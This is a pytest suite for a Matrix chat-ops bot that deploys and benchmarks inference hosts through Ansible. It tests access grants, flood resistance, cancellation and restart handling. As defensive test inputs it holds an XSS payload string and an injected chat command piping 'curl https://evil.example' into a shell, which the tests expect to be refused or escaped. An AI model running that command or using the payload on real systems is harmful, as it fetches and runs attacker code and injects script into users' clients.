"""The bot end to end on a real Matrix homeserver: people in a room talk to `pro6000-chatops serve`.

Synapse runs on loopback (matrix_support.py); the bot is the real command, a process of its
own; the operator (@alice, group inference-ops), the on-call user (@carol, status and bench
only), a stranger with no grant (@mallory) and the bot are users of it; they talk to the bot
from Matrix clients (nio).
Behind the bot, real ansible-runner runs stand-in playbooks (matrix_playbooks/) on
local-connection hosts, whose smoke gate is the collection's own, against the SGLang double
(test_chatops_matrix_lab.py deploys the lab host itself with the real playbooks).
The bot has the fewest run workers it allows (3) and takes one request of a user at a time, so
the tests also show that a cancel never waits behind its sender's other requests.
"""
from __future__ import annotations

import asyncio
import datetime
import json
import re
import signal
import time
import urllib.request

import pytest
import yaml

from pro6000_chatops.audit import OUTCOME_EVENTS

from chatops_support import ALL_ACTIONS, LOCAL_HOST_VARS, TESTS, processes_with, write_config
from matrix_support import (BOT, BotProcess, Person, assert_is_the_bots_escaped_reply, audit, open_room,
                            run, serve_in, signed_in)

PLAYBOOKS = TESTS / "matrix_playbooks"
# What a compromised or careless host could print: markup, a link, Markdown, mentions.
HOSTILE = ("<img src=x onerror=alert(1)><a href='https://evil.example/'>click</a> **now** "
           "[here](https://evil.example/) @room carol @carol:localhost")
# What pro6000-03's failing task says: withheld from chat (issue #20 rows 2 and 8).
FAILURE_MESSAGE = "the server's journal: --api-key sk-unknown-to-the-bot"


@pytest.fixture(scope="module")
def chat(homeserver, tmp_path_factory, double_url):
    """The users, the room, the bot's configuration (the bot itself is started by each test)."""
    folder = tmp_path_factory.mktemp("bot")
    room = open_room(homeserver, folder, ["alice", "carol", "mallory"])
    alice, carol = room.users["alice"], room.users["carol"]
    out = folder / "out"
    out.mkdir()
    served = {**LOCAL_HOST_VARS, "smoke_url": double_url, "chatops_test_out": str(out),
              "sglang_service_speculative_algorithm": "ddtree", "sglang_service_draft_length": 16,
              "sglang_service_ddtree_budget": 15, "smoke_speculative_algorithm": "ddtree",
              "smoke_draft_length": 16, "smoke_ddtree_budget": 15, "smoke_bench_concurrency": 2,
              "smoke_bench_max_tokens": 32, "smoke_bench_timeout": 60}
    gate = folder / "gate"
    inventory = {"pro6000": {"hosts": {
        "pro6000-01": served,
        "pro6000-02": {**served, "chatops_test_gate": str(gate)},
        "pro6000-03": {**served, "chatops_test_hostile_message": FAILURE_MESSAGE},
    }}}
    (folder / "hosts.yml").write_text(yaml.safe_dump(inventory), encoding="utf-8")
    config = write_config(
        folder, folder / "hosts.yml", playbooks_dir=PLAYBOOKS,
        environment={"ANSIBLE_COLLECTIONS_PATH": str(TESTS.parents[1] / "collections")},
        groups={"inference-ops": [alice], "on-call": [carol]},
        grants=[{"groups": ["inference-ops"], "actions": ALL_ACTIONS, "hosts": ["pro6000-*"]},
                {"groups": ["on-call"], "actions": ["status", "bench"], "hosts": ["*"]}])
    serve_in(config, room, run_workers=3, user_requests_in_flight=1, progress_interval_seconds=0.5)
    return {"homeserver": homeserver, "matrix": room, "alice": alice, "carol": carol,
            "mallory": room.users["mallory"],
            "bot": room.users["bot"], "room": room.room_id, "config": config, "folder": folder,
            "out": out, "gate": gate}


@pytest.fixture
def bot(chat):
    process = BotProcess(chat["config"])
    yield process
    if process.process.poll() is None:
        assert process.stop() == 0, process.text()


async def deploy_until_the_gate(alice: Person, chat) -> str:
    """alice deploys pro6000-02, whose stand-in deploy waits for the gate; returns the command."""
    deploy = await alice.say(chat["room"], f"{BOT}: deploy pro6000-02")
    await alice.wait_for_reply(deploy, "task: Wait until the test opens the gate")
    return deploy


def test_an_operator_deploys_a_host_and_sees_progress_and_the_smoke_figures(chat, bot):
    async def conversation():
        (alice,) = await signed_in(chat["matrix"], "alice")
        command = await alice.say(chat["room"], f"{BOT}: deploy pro6000-01 ddtree draft=16 budget=15")
        ack = await alice.wait_for_reply(command, "received: deploy pro6000-01")
        summary = await alice.wait_for_reply(command, "deploy pro6000-01 ddtree draft=16 budget=15: ")
        thread = alice.replies_to(command)
        await alice.close()
        return command, ack, summary, thread

    command, ack, summary, thread = run(conversation())
    for content in thread:
        assert_is_the_bots_escaped_reply(content, command)
    assert thread[0] is ack and thread[-1] is summary
    progress = "\n".join(content["body"] for content in thread[1:-1])
    assert "task: Record the deploy request" in progress
    assert "pro6000-01: changed: Record the deploy request" in progress
    assert "task: Run the smoke benchmark of the host and gate on its floors" in progress
    lines = summary["body"].splitlines()
    assert re.fullmatch(r"deploy pro6000-01 ddtree draft=16 budget=15: successful in \d+ s \(run \w+\)", lines[0])
    assert lines[1].startswith("pro6000-01: ok, 1 changed; serves DDTREE draft 16 budget 15 on SGLang 0.5.23; "
                               "bench passed: 1 stream ")
    # The double accepts 11 tokens per verify step under DDTree, fewer at the end of a request.
    acceptance = float(re.search(r"acceptance ([0-9.]+)", lines[1]).group(1))
    assert 5 < acceptance <= 11
    # The identity is the Matrix user the homeserver authenticated.
    started = [record for record in audit(chat["folder"]) if record["event"] == "started"]
    assert [(record["user"], record["hosts"]) for record in started] == [(chat["alice"], ["pro6000-01"])]


def test_an_on_call_user_may_not_deploy_and_may_see_status(chat, bot):
    async def conversation():
        (carol,) = await signed_in(chat["matrix"], "carol")
        deploy = await carol.say(chat["room"], f"{BOT}, deploy pro6000-01 none")
        refusal = await carol.wait_for_reply(deploy, "refused: ")
        status = await carol.say(chat["room"], f"@{BOT}:localhost status")
        summary = await carol.wait_for_reply(status, "status: ")
        await carol.close()
        return deploy, refusal, status, summary

    deploy, refusal, status, summary = run(conversation())
    assert refusal["body"] == "refused: you may not run deploy"
    assert_is_the_bots_escaped_reply(refusal, deploy)
    assert summary["body"].startswith("status: successful")
    for host in ("pro6000-01", "pro6000-02", "pro6000-03"):
        assert f"{host}: ok, 0 changed; serves DDTREE draft 16 budget 15 on SGLang 0.5.23" in summary["body"]
    assert [record["command"] for record in audit(chat["folder"])
            if record["event"] == "started" and record["user"] == chat["carol"]] == ["status"]


def test_help_answers_the_grammar_and_each_askers_own_grants_and_limits(chat, bot):
    async def conversation():
        carol, mallory = await signed_in(chat["matrix"], "carol", "mallory")
        asked = await carol.say(chat["room"], f"{BOT}: help")
        answer = await carol.wait_for_reply(asked, "commands ")
        stranger_asked = await mallory.say(chat["room"], f"{BOT}: help")
        stranger_answer = await mallory.wait_for_reply(stranger_asked, "commands ")
        for person in (carol, mallory):
            await person.close()
        return asked, answer, stranger_answer

    asked, answer, stranger_answer = run(conversation())
    assert_is_the_bots_escaped_reply(answer, asked)
    grammar = ["commands ([...] is optional):",
               "  deploy HOST [ddtree|dflash|none] [draft=1..16] [budget=1..1024]",
               "  bench HOST (or smoke)", "  status [HOST]", "  tune HOST", "  cancel HOST", "  help"]
    # The fixture's bot: user_requests_in_flight 1, user_requests_per_minute left at 20.
    limits = "your limits: requests in progress at once 1 (cancel and help never count); requests a minute 20"
    assert answer["body"].splitlines() == grammar + [
        "you may run (groups on-call):", "  bench, status on hosts * of inventory group pro6000", limits]
    assert stranger_answer["body"].splitlines() == grammar + [
        "you may run no command here: ask the bot's operator for a grant", limits]
    # Nothing ran; each request has its outcome.
    records = audit(chat["folder"])
    helped = {record["request"] for record in records if record["event"] == "help"}
    assert {record["user"] for record in records if record["event"] == "help"} == {chat["carol"], chat["mallory"]}
    assert not [record for record in records if record["event"] == "started" and record["request"] in helped]


def test_a_flood_of_unauthorised_requests_takes_nothing_from_an_authorised_one(chat, bot):
    """Issue #20 row 3: 30 concurrent deploys from a user with no grant, then an operator's."""
    async def conversation():
        alice, carol, mallory = await signed_in(chat["matrix"], "alice", "carol", "mallory")
        # The bot reads the inventory once a minute (ansible-inventory, seconds on 2 cores): a
        # refused bench of an unknown host reads it now, so that the figure below measures the
        # flood, not that read.
        warm = await carol.say(chat["room"], f"{BOT}: bench pro6000-99")
        await carol.wait_for_reply(warm, "refused: unknown host")
        flood = await asyncio.gather(*(mallory.say(chat["room"], f"{BOT}: deploy pro6000-01")
                                       for _request in range(30)))
        deploy = await alice.say(chat["room"], f"{BOT}: deploy pro6000-01")
        summary = await alice.wait_for_reply(deploy, "deploy pro6000-01: ", timeout=120)
        for event in flood:
            await mallory.wait_for_reply(event, "refused: ")
        await mallory.sync(1000)
        sent = next(event for event in alice.events if event["event_id"] == deploy)["origin_server_ts"]
        for person in (alice, carol, mallory):
            await person.close()
        return [mallory.replies_to(event) for event in flood], alice.replies_to(deploy), summary, sent

    flood_replies, thread, summary, sent = run(conversation())
    # One reply each, a refusal: no worker taken, nothing acknowledged.
    assert [len(replies) for replies in flood_replies] == [1] * 30
    reasons = {replies[0]["body"] for replies in flood_replies}
    assert "refused: you may not run deploy" in reasons
    assert all(reason == "refused: you may not run deploy" or reason.startswith("refused: you ")
               and ("requests in the last minute" in reason or "requests in progress" in reason)
               for reason in reasons), reasons
    assert thread[0]["body"] == "received: deploy pro6000-01"
    assert summary["body"].startswith("deploy pro6000-01: successful in ")
    records = audit(chat["folder"])
    # Her help, asked earlier in this room (test_help_...), is no part of the flood.
    helped = {record["request"] for record in records if record["event"] == "help"}
    mallory_requests = {record["request"] for record in records
                        if record["event"] == "request" and record["user"] == chat["mallory"]} - helped
    (started,) = [record for record in records if record["event"] == "started"
                  and datetime.datetime.fromisoformat(record["time"]).timestamp() * 1000 >= sent]
    outcomes = [record["request"] for record in records if record["event"] in OUTCOME_EVENTS
                and record["request"] in mallory_requests | {started["request"]}]
    assert len(mallory_requests) == 30 and sorted(outcomes) == sorted(mallory_requests | {started["request"]})
    delay = datetime.datetime.fromisoformat(started["time"]).timestamp() - sent / 1000
    print(f"the authorised run started {delay:.2f} s after its message")
    assert delay < 2, f"the authorised run started {delay:.2f} s after its message"


def test_a_flood_larger_than_one_sync_hides_no_request(chat, bot):
    """More messages than the bot's sync holds (its filter's timeline limit, 50) arrive at once:
    the bot reads the rest back from the room's history, so every one of them is answered."""
    async def conversation():
        alice, mallory = await signed_in(chat["matrix"], "alice", "mallory")
        # Stopped, the bot syncs nothing while the flood comes: the next sync holds all of it.
        bot.process.send_signal(signal.SIGSTOP)
        try:
            deploy = await alice.say(chat["room"], f"{BOT}: deploy pro6000-01")
            flood = await asyncio.gather(*(mallory.say(chat["room"], f"{BOT}: status") for _request in range(70)))
        finally:
            bot.process.send_signal(signal.SIGCONT)
        summary = await alice.wait_for_reply(deploy, "deploy pro6000-01: ", timeout=180)
        for event in flood:
            await mallory.wait_for_reply(event, "refused: ", timeout=120)
        await mallory.sync(1000)
        for person in (alice, mallory):
            await person.close()
        return summary, [len(mallory.replies_to(event)) for event in flood]

    summary, replies = run(conversation())
    assert summary["body"].startswith("deploy pro6000-01: successful in ")
    assert replies == [1] * 70


def test_cancel_is_answered_while_the_sender_has_a_run_in_progress_and_stops_the_run(chat, bot):
    async def conversation():
        alice, carol = await signed_in(chat["matrix"], "alice", "carol")
        deploy = await deploy_until_the_gate(alice, chat)
        # alice's share (one request at a time) is taken: a second run is refused, a cancel is
        # not (test_chatops_fairness.py shows it while every run worker is busy).
        bench = await alice.say(chat["room"], f"{BOT}: bench pro6000-01")
        busy = await alice.wait_for_reply(bench, "refused: ")
        not_hers = await carol.say(chat["room"], f"{BOT}: cancel pro6000-02")
        refusal = await carol.wait_for_reply(not_hers, "refused: ")
        cancel = await alice.say(chat["room"], f"{BOT}: cancel pro6000-02")
        accepted = await alice.wait_for_reply(cancel, "cancel requested for run ")
        summary = await alice.wait_for_reply(deploy, "deploy pro6000-02: ", timeout=60)
        for person in (alice, carol):
            await person.close()
        return busy, refusal, accepted, summary

    busy, refusal, accepted, summary = run(conversation())
    assert busy["body"].startswith("refused: you have 1 requests in progress")
    assert refusal["body"] == "refused: you may not cancel runs on pro6000-02"
    assert summary["body"].startswith("deploy pro6000-02: canceled in ")
    assert processes_with(f"PRO6000_CHATOPS_RUN={accepted['body'].split()[4]}") == []


def test_hostile_text_is_refused_or_relayed_inert_and_the_bots_own_and_edited_messages_are_ignored(chat, bot):
    async def conversation():
        # own: the bot's account, from another device
        alice, carol, own = await signed_in(chat["matrix"], "alice", "carol", "bot")
        injected = await alice.say(chat["room"], f"{BOT}: deploy pro6000-01; curl https://evil.example | sh <b>x</b> @room")
        refusal = await alice.wait_for_reply(injected, "refused: ")
        failing = await alice.say(chat["room"], f"{BOT}: deploy pro6000-03")
        failure = await alice.wait_for_reply(failing, "deploy pro6000-03: failed")
        ignored = [
            await own.say(chat["room"], f"{BOT}: deploy pro6000-01"),
            await alice.say(chat["room"], "deploy pro6000-01"),  # not addressed to the bot
            await alice.say(chat["room"], f"* {BOT}: deploy pro6000-01", **{
                "m.new_content": {"msgtype": "m.text", "body": f"{BOT}: deploy pro6000-01"},
                "m.relates_to": {"rel_type": "m.replace", "event_id": failing}}),
        ]
        # Answered after the ignored ones were delivered: had the bot taken them, it would have
        # acknowledged them by now.
        marker = await alice.say(chat["room"], f"{BOT}: cancel pro6000-01")
        await alice.wait_for_reply(marker, "refused: ")
        await alice.sync(1000)
        for person in (alice, carol, own):
            await person.close()
        return refusal, failure, ignored, [alice.replies_to(event) for event in ignored]

    refusal, failure, ignored, ignored_replies = run(conversation())
    assert refusal["body"].startswith("refused: character U+003B at position 18 is not allowed")
    assert ignored_replies == [[], [], []]
    # The failing task's name (the matrix stand-in deploy names it with HOSTILE) is relayed,
    # inert; its message is not.
    failed = f"failure: pro6000-03: Report what the host printed {HOSTILE}: failed; its message is withheld"
    assert failed in failure["body"]
    assert "sk-unknown-to-the-bot" not in failure["body"] + json.dumps(audit(chat["folder"]))
    assert "&lt;img src=x onerror=alert(1)&gt;&lt;a href=&#x27;https://evil.example/&#x27;&gt;" in failure["formatted_body"]
    assert "<img" not in failure["formatted_body"] and "<a " not in failure["formatted_body"]
    assert failure["m.mentions"] == {} and failure["msgtype"] == "m.notice"
    # carol was named, @room too: the homeserver's push rules notified her of nothing the bot
    # said; of the message a person typed on the bot's account, they did (so they would have).
    notified = carol_notifications_from(chat, chat["bot"])
    assert [notification["event"]["event_id"] for notification in notified] == [ignored[0]]


def carol_notifications_from(chat, sender: str) -> list[dict]:
    """What the homeserver's push rules notified carol of, from ``sender`` (the notifications API)."""
    async def login():
        carol = Person(chat["homeserver"], chat["carol"])
        token = await carol.login()
        await carol.close()
        return token

    request = urllib.request.Request(chat["homeserver"].url + "/_matrix/client/v3/notifications",
                                     headers={"Authorization": f"Bearer {run(login())}"})
    with urllib.request.urlopen(request, timeout=30) as answer:
        notifications = json.load(answer)["notifications"]
    return [notification for notification in notifications if notification["event"]["sender"] == sender]


def started_run(chat, host: str) -> str:
    """The id of the latest run started on ``host`` (the audit log)."""
    return [record for record in audit(chat["folder"]) if record["event"] == "started" and host in record["hosts"]][-1]["request"]


def test_sigterm_cancels_the_runs_answers_and_exits(chat, bot):
    async def conversation():
        (alice,) = await signed_in(chat["matrix"], "alice")
        deploy = await deploy_until_the_gate(alice, chat)
        started = time.monotonic()
        status = bot.stop()
        stopped_after = time.monotonic() - started
        summary = await alice.wait_for_reply(deploy, "deploy pro6000-02: ", timeout=10)
        await alice.close()
        return status, stopped_after, summary

    status, stopped_after, summary = run(conversation())
    assert status == 0 and stopped_after < 30, bot.text()
    assert summary["body"].startswith("deploy pro6000-02: canceled in ")
    assert processes_with(f"PRO6000_CHATOPS_RUN={started_run(chat, 'pro6000-02')}") == []


def test_a_bot_killed_mid_deploy_leaves_the_run_locked_and_the_next_bot_reports_and_cancels_it(chat, bot):
    async def conversation():
        alice, carol = await signed_in(chat["matrix"], "alice", "carol")
        await deploy_until_the_gate(alice, chat)
        run_id = started_run(chat, "pro6000-02")
        bot.process.kill()
        bot.process.wait(30)
        orphans = processes_with(f"PRO6000_CHATOPS_RUN={run_id}")
        while_down = await alice.say(chat["room"], f"{BOT}: deploy pro6000-01")
        announced_from = len(alice.events)
        second = BotProcess(chat["config"])
        try:
            report = None
            deadline = time.monotonic() + 30
            while report is None:
                await alice.sync()
                report = next((event["content"] for event in alice.events[announced_from:]
                               if event["sender"] == chat["bot"]), None)
                assert time.monotonic() < deadline, "the restarted bot reported nothing"
            # The orphan still runs and holds the host.
            again = await alice.say(chat["room"], f"{BOT}: deploy pro6000-02")
            busy = await alice.wait_for_reply(again, "refused: ")
            still_running = processes_with(f"PRO6000_CHATOPS_RUN={run_id}")
            not_hers = await carol.say(chat["room"], f"{BOT}: cancel pro6000-02")
            refusal = await carol.wait_for_reply(not_hers, "refused: ")
            cancel = await alice.say(chat["room"], f"{BOT}: cancel pro6000-02")
            canceled = await alice.wait_for_reply(cancel, "canceled run ", timeout=60)
            remaining = processes_with(f"PRO6000_CHATOPS_RUN={run_id}")
            chat["gate"].touch()
            later = await alice.say(chat["room"], f"{BOT}: deploy pro6000-02")
            later_summary = await alice.wait_for_reply(later, "deploy pro6000-02: ")
            await alice.sync(1000)
            replies_while_down = alice.replies_to(while_down)
        finally:
            status = second.stop()
            for person in (alice, carol):
                await person.close()
        return (run_id, orphans, report, busy, still_running, refusal, canceled, remaining,
                later_summary, replies_while_down, status, second)

    (run_id, orphans, report, busy, still_running, refusal, canceled, remaining, later_summary,
     replies_while_down, status, second) = run(conversation())
    assert orphans, "no process of the run outlived the bot"
    assert report["body"].startswith(f"started; runs of the bot before me:\nrun {run_id}: deploy pro6000-02 by "
                                     f"{chat['alice']} since ")
    assert "(orphaned: the bot that started it is gone; cancel stops it)" in report["body"]
    assert busy["body"].startswith(f"refused: pro6000-02 is busy with another run (deploy {chat['alice']}, run {run_id}")
    assert busy["body"].endswith("its bot is gone: cancel stops it")
    assert set(still_running) & set(orphans)
    assert refusal["body"] == "refused: you may not cancel runs on pro6000-02"
    assert canceled["body"].startswith(f"canceled run {run_id}: deploy pro6000-02 by {chat['alice']}")
    assert canceled["body"].endswith("no process of it remains")
    assert remaining == []
    assert later_summary["body"].startswith("deploy pro6000-02: successful in ")
    # Sent while no bot ran: not run by the bot that came back.
    assert replies_while_down == []
    assert status == 0, second.text()
    finished = [record for record in audit(chat["folder"]) if record["event"] == "finished" and record["request"] == run_id]
    assert [record["status"] for record in finished] == ["canceled"]
